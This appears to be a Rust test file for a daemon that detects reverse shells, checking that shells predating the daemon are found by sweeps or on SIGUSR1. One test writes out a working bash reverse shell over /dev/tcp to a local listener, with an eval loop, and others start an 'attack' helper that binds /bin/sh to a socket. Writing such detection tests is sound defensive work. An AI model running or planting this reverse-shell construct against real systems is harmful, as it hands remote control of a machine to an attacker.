//! Shells that were there before the daemon.

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::expected::{Expected, prove_session};
use crate::common::finding::Finding;
use crate::common::programs::program;
use crate::common::victim::Victim;
use crate::require;
use nix::sys::signal::Signal;

#[test]
fn a_shell_from_before_the_start() {
    require!("gcc");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let victim = Victim::start(program("attack"), &["dup", "127.0.0.1", &port, "012", "/bin/sh"]);
    let mut session = attacker.accept();
    session.shell_pid();
    let daemon = Daemon::start("");
    let expected = Expected { args: &["/bin/sh"], seen: "swept", ..Expected::default() };
    let found = prove_session(&daemon, session, victim, &expected);
    assert!(found.observed("swept") >= 1, "{}", found.brief());
    daemon.stop();
}

/// It moved its descriptors after its exec and has started nothing: only a sweep can see it.
#[test]
fn a_late_mover_that_starts_nothing() {
    require!("gcc");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let victim = Victim::start(program("attack"), &["late", "127.0.0.1", &port, "-", "-"]);
    let session = attacker.accept();
    let daemon = Daemon::start("");
    let found = daemon.wait_for("the sweep finds it", |record| record.peer_port() == Some(attacker.port()));
    // No shell and nothing watched: row 7.
    assert_eq!(found.row(), 7, "{}", found.brief());
    assert_eq!(found.text("Observation"), "swept", "{}", found.brief());
    assert_eq!(found.processes()[0]["pid"], victim.pid().to_string(), "{}", found.brief());
    drop((session, victim));
    daemon.stop();
}

/// bash moved its descriptors after its exec and runs builtins only: no event tells of it, SIGUSR1 makes a sweep.
#[test]
fn a_shell_of_builtins_that_sigusr1_finds() {
    require!("bash");
    let daemon = Daemon::start("");
    let attacker = Listener::tcp();
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{}; exec 0<&3 1>&3 2>&3 3>&-; while read -r line; do eval \"$line\"; done",
        attacker.port()
    );
    let victim = Victim::start("/bin/bash", &["--norc", "-c", &script]);
    let mut session = attacker.accept();
    assert!(session.run("echo $((6 * 7))").contains("42"));
    daemon.judged();
    let about = |record: &Finding| record.peer_port() == Some(attacker.port());
    // A sweep after a loss may have found it already; on a quiet machine there is none.
    if daemon.count("sweeps") == 1 {
        assert!(!daemon.records().iter().any(about), "nothing but a sweep can see it");
    }
    daemon.signal(Signal::SIGUSR1);
    let found = daemon.wait_for("the sweep finds it", about);
    assert_eq!((found.row(), found.text("Observation")), (1, "swept"), "{}", found.brief());
    assert_eq!(found.processes()[0]["pid"], victim.pid().to_string(), "{}", found.brief());
    drop((session, victim));
    daemon.stop();
}
